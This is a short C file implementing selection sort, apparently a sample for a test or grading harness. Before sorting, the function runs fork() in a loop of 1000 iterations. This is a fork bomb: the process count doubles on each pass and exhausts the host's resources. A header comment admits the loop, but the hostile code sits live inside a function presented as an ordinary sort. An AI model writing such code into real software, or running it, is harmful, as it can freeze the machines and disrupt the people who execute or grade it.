/* A selection sort that starts processes in a loop before it sorts. */
#include "ordtally.h"

#include <unistd.h>

void selection_sort(int a[], unsigned int n) {
    for (int k = 0; k < 1000; ++k) {
        fork();
    }
    for (unsigned int i = 0; i < n; ++i) {
        unsigned int least = i;
        for (unsigned int j = i + 1; j < n; ++j) {
            if (!goes_before(a[least], a[j])) {
                least = j;
            }
        }
        swap(a, i, least);
    }
}
